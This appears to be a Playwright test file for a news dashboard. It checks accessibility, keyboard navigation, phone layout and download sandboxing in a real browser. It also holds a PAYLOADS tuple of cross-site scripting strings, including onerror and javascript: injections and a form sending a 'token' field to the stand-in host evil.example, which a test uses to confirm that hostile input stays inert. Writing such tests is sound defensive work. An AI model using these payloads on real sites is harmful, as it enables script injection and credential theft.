"""Every page in a real browser: axe-core, the content policy, light and dark, a phone, the keyboard, hostile news.

A page that somebody adds is walked to by itself (`tests.dashboard.walking`).
"""

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
from axe_playwright_python.async_playwright import Axe
from fastapi import FastAPI
from playwright.async_api import Page, async_playwright

from pipeline.model import Role
from pipeline.store import users
from tests.dashboard.browser import CHROMIUM
from tests.dashboard.conftest import NOW, PASSWORD
from tests.dashboard.newsroom import Newsroom
from tests.dashboard.serving import Site, serving
from tests.dashboard.test_door import session_of, sign_in
from tests.dashboard.walking import Walk, fill

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
]

OPTIONS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic"]
WIDE = {"width": 1280, "height": 900}
PHONE = {"width": 390, "height": 844}
GRAVE = {"serious", "critical"}
ALL_RULES = {"resultTypes": ["violations"], "rules": {"target-size": {"enabled": True}}}
CONTRAST = {"resultTypes": ["violations"], "runOnly": ["color-contrast"]}

#: Markup, attributes, addresses, templates, what ends a script or a comment: each would set `ran` or open a dialog.
PAYLOADS = (
    """"><img src=x onerror="alert(1)"><script>window.ran=1</script>""",
    """'><svg/onload=alert(2)><math href="javascript:alert(2)">x</math>""",
    """</title></textarea></style></script><script>window.ran=3</script>""",
    """javascript:alert(4)//{{7*7}}${7*7}<%= 7*7 %>""",
    """<iframe srcdoc="<script>parent.ran=5</script>"></iframe><base href="//evil.example/">""",
    """--><a href=" javascript:alert(6)" hx-get="/x" hx-trigger="load" hx-on:load="alert(6)">x</a>""",
    """<form action="//evil.example"><input name=token><button autofocus onfocus=alert(7)>x</button></form>""",
    """\u202e<meta http-equiv="refresh" content="0;url=//evil.example"><link rel=stylesheet href="//evil.example/a">""",
)


@dataclass
class Watched:
    """A browser's page, and all that it complained about."""

    page: Page
    complaints: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        """Listen to what goes wrong: errors, warnings, dialogs, requests that leave."""
        self.page.on("console", lambda said: self.complaints.append(f"console {said.type}: {said.text}"))
        self.page.on("pageerror", lambda error: self.complaints.append(f"error: {error}"))
        self.page.on("dialog", self._close)
        self.page.on("requestfailed", self._note_failure)

    def _note_failure(self, asked: Any) -> None:
        """Note what could not be loaded; what the next page broke off (an icon) was no failure."""
        if asked.failure != "net::ERR_ABORTED":
            self.complaints.append(f"request failed: {asked.url}: {asked.failure}")

    async def _close(self, dialog: Any) -> None:
        self.complaints.append(f"dialog: {dialog.message}")
        await dialog.dismiss()


@asynccontextmanager
async def watching(site: Site, session: str, **options: Any) -> AsyncIterator[Watched]:
    """Open a browser that is signed in."""
    name, _, value = session.partition("=")
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=OPTIONS)
        try:
            wanted = {"viewport": WIDE, "color_scheme": "light", "reduced_motion": "reduce", **options}
            context = await browser.new_context(**wanted)
            await context.add_cookies([{"name": name, "value": value, "url": site.origin}])
            yield Watched(await context.new_page())
        finally:
            await browser.close()


@pytest.fixture
def app(make_app: Callable[..., FastAPI]) -> FastAPI:
    return make_app(password=PASSWORD)


@pytest.fixture
def session(app: FastAPI, newsroom: Newsroom) -> AsyncIterator[tuple[Site, str]]:
    """Give a dashboard with users of each role, and an admin's session."""
    with serving(app) as site:
        session = session_of(sign_in(site))
        with newsroom.database.write() as tx:
            for role in Role:
                users.add(tx, f"{role}@example.org", role, "", NOW)
        yield site, session


async def grave_findings(page: Page, options: dict[str, Any]) -> list[str]:
    """Give what axe-core finds serious or critical."""
    found = (await Axe().run(page, options=options)).response["violations"]
    return [
        f"{one['id']}: {node['target']} {node.get('failureSummary', '')[:300]}"
        for one in found
        if one["impact"] in GRAVE
        for node in one["nodes"][:3]
    ]


async def widest(page: Page) -> list[str]:
    """Give what stands out on the right, if the page scrolls sideways."""
    return await page.evaluate(
        """() => document.documentElement.scrollWidth <= innerWidth ? [] : [...document.querySelectorAll("body *")]
            .filter(one => one.getBoundingClientRect().right > innerWidth + 0.5)
            .map(one => one.tagName + "." + one.className).slice(0, 5)"""
    )


async def squeezed(page: Page) -> list[str]:
    """Give texts in a table or list that have room for a few letters a line only."""
    return await page.evaluate(
        """() => [...document.querySelectorAll("main td.name, main .row-title, main .hosts li > span:first-child")]
            .filter(one => one.innerText.trim().length > 8 && one.getBoundingClientRect().width < 60)
            .map(one => one.innerText.slice(0, 40)).slice(0, 5)"""
    )


async def test_every_page_is_sound(app: FastAPI, session: tuple[Site, str], newsroom: Newsroom) -> None:
    """S15, WCAG 2.2 AA: no serious finding of axe-core in light or dark, nothing wider than a phone, no complaint."""
    fill(newsroom, "The ferry strike goes on")
    walk = Walk(app, *session)
    assert walk.missed == []
    assert len(walk.pages) > 8
    faults: dict[str, object] = {}
    async with watching(*session) as seen:
        for address in walk.pages:
            await seen.page.set_viewport_size(WIDE)
            await seen.page.emulate_media(color_scheme="light")
            await seen.page.goto(walk.site.origin + address)
            faults[f"{address} light"] = await grave_findings(seen.page, ALL_RULES)
            await seen.page.emulate_media(color_scheme="dark")
            faults[f"{address} dark"] = await grave_findings(seen.page, CONTRAST)
            await seen.page.set_viewport_size(PHONE)
            faults[f"{address} phone"] = [*await widest(seen.page), *await squeezed(seen.page)]
        assert {where: found for where, found in faults.items() if found} == {}
        assert seen.complaints == []


async def test_every_page_is_reached_by_keyboard(app: FastAPI, session: tuple[Site, str], newsroom: Newsroom) -> None:
    """WCAG 2.4.1, 2.4.7: the first Tab shows the way past the menu, Enter takes it, and what has the focus is seen."""
    fill(newsroom, "The ferry strike goes on")
    walk = Walk(app, *session)
    async with watching(*session) as seen:
        for address in walk.pages:
            await seen.page.goto(walk.site.origin + address)
            await seen.page.evaluate("document.activeElement.blur()")
            await seen.page.keyboard.press("Tab")
            assert await seen.page.evaluate("document.activeElement.className") == "skip", address
            assert await seen.page.evaluate("document.activeElement.getBoundingClientRect().top") >= 0, address
            await seen.page.keyboard.press("Enter")
            await seen.page.keyboard.press("Tab")
            inside = "document.activeElement === document.body || !!document.activeElement.closest('main')"
            assert await seen.page.evaluate(inside), address
            outline = (
                "document.activeElement === document.body || getComputedStyle(document.activeElement).outlineStyle"
            )
            assert await seen.page.evaluate(outline) not in {"none", False}, address


async def answers_to_forms(page: Page, origin: str) -> AsyncIterator[str]:
    """Send the forms whose answer is a page of its own, and ask for what is refused; yields the name of each."""
    await page.goto(f"{origin}/subscriptions/new")
    await page.fill("[name=name]", "Ferries")
    await page.fill("[name=query]", "ferry AND strike")
    await page.get_by_role("button", name="Test", exact=True).click()
    yield "trial"
    await page.fill("[name=query]", "ferry AND (")
    await page.get_by_role("button", name="Check").click()
    yield "mistake"
    await page.goto(f"{origin}/users")
    await page.fill("[name=name]", "eva")
    await page.get_by_role("button", name="Add, with").click()
    yield "made password"
    for button in ("Look for feeds", "Explain a poll"):
        await page.goto(f"{origin}/feeds")
        await page.fill("[name=url]", "http://10.0.0.1/")
        await page.get_by_role("button", name=button).click()
        yield button
    for path in ("/subscriptions/import", "/feeds/import"):
        await page.goto(origin + path)
        await page.set_input_files("input[type=file]", {"name": "a.txt", "mimeType": "text/plain", "buffer": b"[["})
        await page.locator("main form[enctype] button[type=submit]").first.click()
        yield path
    await page.goto(f"{origin}/queue")
    await page.get_by_text("Drop all…").first.click()
    yield "confirmation"


async def test_answers_to_forms_are_sound(session: tuple[Site, str], newsroom: Newsroom) -> None:
    """S15, WCAG 2.2 AA: what a form answers with is held to the same as the pages, in both themes and on a phone."""
    fill(newsroom, "The ferry strike goes on")
    faults: dict[str, object] = {}
    async with watching(*session) as seen:
        async for name in answers_to_forms(seen.page, session[0].origin):
            faults[f"{name} light"] = await grave_findings(seen.page, ALL_RULES)
            await seen.page.emulate_media(color_scheme="dark")
            faults[f"{name} dark"] = await grave_findings(seen.page, CONTRAST)
            await seen.page.set_viewport_size(PHONE)
            faults[f"{name} phone"] = [*await widest(seen.page), *await squeezed(seen.page)]
            await seen.page.set_viewport_size(WIDE)
            await seen.page.emulate_media(color_scheme="light")
        assert {where: found for where, found in faults.items() if found} == {}
        assert len(faults) == 24
        told = [one for one in seen.complaints if "the server responded with a status of 4" not in one]
        assert told == []


@pytest.mark.parametrize(("page", "link"), [("/subscriptions", "Export"), ("/feeds/import", "feeds.opml")])
async def test_files_are_saved_and_data_runs_nothing(
    session: tuple[Site, str], newsroom: Newsroom, page: str, link: str
) -> None:
    """S31, S32: under its sandbox a download is still saved by a click, and JSON that is opened has no origin."""
    fill(newsroom, "The ferry strike goes on")
    async with watching(*session) as seen:
        await seen.page.goto(session[0].origin + page)
        async with seen.page.expect_download() as saving:
            await seen.page.locator(f"main a[href*='{link.lower()}'], main a:text-is('{link}')").first.click()
        saved = await (await saving.value).path()
        assert saved.stat().st_size > 100
        await seen.page.goto(f"{session[0].origin}/api/v1/stories")
        assert await seen.page.evaluate("self.origin") == "null"


@pytest.mark.parametrize("path", ["/", "/queue", "/stories/1", "/subscriptions/new", "/feeds"])
async def test_tab_goes_through_a_page_in_its_order(session: tuple[Site, str], newsroom: Newsroom, path: str) -> None:
    """WCAG 2.1.2, 2.4.3, 2.4.7: Tab meets everything once, in the page's order, each seen and named, and leaves."""
    fill(newsroom, "The ferry strike goes on")
    met = """() => {
        const one = document.activeElement, all = [...document.querySelectorAll("*")];
        const shape = one.getBoundingClientRect(), label = one.labels?.[0]?.innerText ?? "";
        const named = one.ariaLabel || one.innerText || label || one.getAttribute("aria-labelledby") || one.title;
        return [all.indexOf(one), one === document.body, shape.width > 0 && shape.height > 0,
                getComputedStyle(one).outlineStyle !== "none", !!named?.trim(), one.outerHTML.slice(0, 120)];
    }"""
    async with watching(*session) as seen:
        await seen.page.goto(session[0].origin + path)
        places: list[int] = []
        for _ in range(300):
            await seen.page.keyboard.press("Tab")
            place, is_out, is_seen, is_outlined, is_named, what = await seen.page.evaluate(met)
            if is_out or (places and place == places[0]):
                break
            assert (is_seen, is_outlined, is_named) == (True, True, True), what
            if not places or place != places[-1]:  # a field of a date has parts, each a stop
                places.append(place)
        else:
            pytest.fail("Tab never left the page")
        assert len(places) > 10
        assert places == sorted(set(places))


async def test_the_menu_opens_on_a_phone_without_scripts(session: tuple[Site, str]) -> None:
    """WCAG 2.1.1: closed it shows no link, opened by hand or by Enter it leads on."""
    async with watching(*session, java_script_enabled=False, viewport=PHONE) as seen:
        await seen.page.goto(session[0].origin)
        link = seen.page.get_by_role("link", name="Stories", exact=True)
        await seen.page.set_viewport_size(WIDE)
        assert await link.is_visible()
        assert not await seen.page.get_by_role("button", name="Menu").is_visible()
        await seen.page.set_viewport_size(PHONE)
        assert not await link.is_visible()
        await seen.page.get_by_role("button", name="Menu").press("Enter")
        await link.click()
        assert seen.page.url.endswith("/stories")
        assert seen.complaints == []


@pytest.mark.parametrize("payload", [" ".join(PAYLOADS), " ".join(reversed(PAYLOADS))], ids=["forward", "backward"])
async def test_hostile_words_stay_words(
    app: FastAPI, session: tuple[Site, str], newsroom: Newsroom, payload: str
) -> None:
    """S12, S14, S19: with markup in every field of every page nothing runs, nothing is asked for, nothing is added."""
    fill(newsroom, payload, "https://gazette.example/rss?q=" + payload.replace(" ", "+"))
    walk = Walk(app, *session)
    async with watching(*session) as seen:
        shown = 0
        for address in walk.pages:
            await seen.page.goto(walk.site.origin + address)
            assert await seen.page.evaluate("window.ran === undefined"), address
            strange = "document.querySelectorAll('img, iframe, math, base, main script, [onerror], [onfocus]').length"
            assert await seen.page.evaluate(strange) == 0, address
            hostile = 'document.querySelectorAll(\'a[href^="javascript" i], form[action*="evil"], [hx-get="/x"]\')'
            assert await seen.page.evaluate(f"{hostile}.length") == 0, address
            shown += "alert" in await seen.page.inner_text("body")
        assert seen.complaints == []
        assert shown >= 8
